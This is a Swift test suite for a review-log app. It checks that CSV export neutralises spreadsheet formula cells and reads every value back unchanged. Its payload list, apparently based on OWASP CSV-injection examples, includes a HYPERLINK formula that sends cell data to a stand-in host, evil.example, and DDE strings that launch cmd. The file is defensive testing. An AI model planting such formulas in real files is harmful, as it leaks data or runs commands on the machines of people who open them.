import Foundation
import Testing

@testable import ReviewLog

/// Issue 20 item 9: `export --format csv` writes no cell a spreadsheet runs as a formula, and import reads every
/// value back exactly.
@Suite("CSV export: formula cells neutralised, read back losslessly")
struct CSVCellTests {
    /// Formula payloads (OWASP's CSV injection examples and their variants), quotes, blanks and look-alikes.
    static let adversarial: [String] = {
        let payloads = [
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "@SUM(1+9)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "=1+1", "@", "=", "+", "-", "-1", "'", "''", "'=1+1", "''=1", "'plain", "plain'",
            "\t=1", "\r=1", "\n=1", "\t", "\r\n", "＝1+1", "＋1", "－1", "＠SUM(1)", "x=1", "a,=b", "\"=1\"", "\"", "1.0",
            "=cmd|'/C calc'!A0,\"x\"\n=2",
        ]
        var all: [String] = []
        for payload in payloads {
            all += [payload, " " + payload, "   " + payload, "\u{A0}" + payload, "\u{3000}" + payload, payload + " "]
        }
        return all
    }()

    /// One event per value and free-text column whose rules accept it (names and versions refuse some blanks).
    static func events() -> (events: [ReviewEvent], perColumn: [String: Int]) {
        var events: [ReviewEvent] = []
        var perColumn: [String: Int] = [:]
        let columns: [(String, WritableKeyPath<ReviewEvent, String?>?, WritableKeyPath<ReviewEvent, String>?)] = [
            ("app", nil, \.app.name), ("bundle_id", \.app.bundleID, nil), ("app_store_id", \.app.appStoreID, nil),
            ("version", nil, \.version), ("build", \.build, nil), ("note", \.note, nil),
            ("asc_version_id", \.ascVersionID, nil), ("asc_submission_id", \.ascSubmissionID, nil),
        ]
        for value in adversarial {
            for (column, optional, required) in columns {
                var event = ReviewEvent(
                    id: Int64(events.count + 1), app: App(name: "App"), platform: .iOS, version: "1.0",
                    state: .inReview, at: Timestamp(secondsSince1970: 1_700_000_000), source: .import)
                if let optional { event[keyPath: optional] = value }
                if let required { event[keyPath: required] = value }
                guard
                    Validation.problem(
                        app: event.app.name, version: event.version, build: event.build, note: event.note)
                        == nil
                else { continue }
                events.append(event)
                perColumn[column, default: 0] += 1
            }
        }
        return (events, perColumn)
    }

    @Test("every adversarial value, in every free-text column, exports as a cell no spreadsheet runs and reads back")
    func roundTrip() throws {
        let (events, perColumn) = Self.events()
        // Every column received formula payloads (the names and versions at least the ones without blanks).
        for column in ["app", "bundle_id", "app_store_id", "version", "build", "note", "asc_version_id"] {
            #expect((perColumn[column] ?? 0) >= 30, "\(column): \(perColumn[column] ?? 0)")
        }
        let csv = EventInterchange.csv(events)
        let rows = try CSVReader.rows(csv, name: "export")
        #expect(rows.count == events.count + 1)
        for row in rows.dropFirst() {
            for (index, cell) in row.fields.enumerated() {
                #expect(!CSVCell.isFormula(cell), "line \(row.line) column \(EventInterchange.csvColumns[index])")
            }
        }
        #expect(csv.contains(",\"'=HYPERLINK(") && csv.contains(",''=1+1,") && csv.contains(",'@SUM("))
        let read = try EventInterchange.events(from: Array(csv.utf8), format: .csv, name: "export")
        #expect(read == events)
        for (index, event) in read.enumerated() where event != events[index] {
            Issue.record("event \(index + 1) read back as \(event), written as \(events[index])")
        }
    }

    @Test(
        "a cell is written with a leading ' exactly when it starts, after blanks, with a formula sign, or with '",
        arguments: [
            ("=1", "'=1"), ("  @x", "'  @x"), ("\t1", "'\t1"), ("'", "''"), ("'a", "''a"), ("a'", "a'"), ("a=1", "a=1"),
            (" a", " a"), ("", ""), ("1-2", "1-2"), ("\u{3000}－1", "'\u{3000}－1"),
        ])
    func neutralized(value: String, written: String) {
        #expect(CSVCell.neutralized(value) == written)
        #expect(CSVCell.restored(written) == value)
    }
}
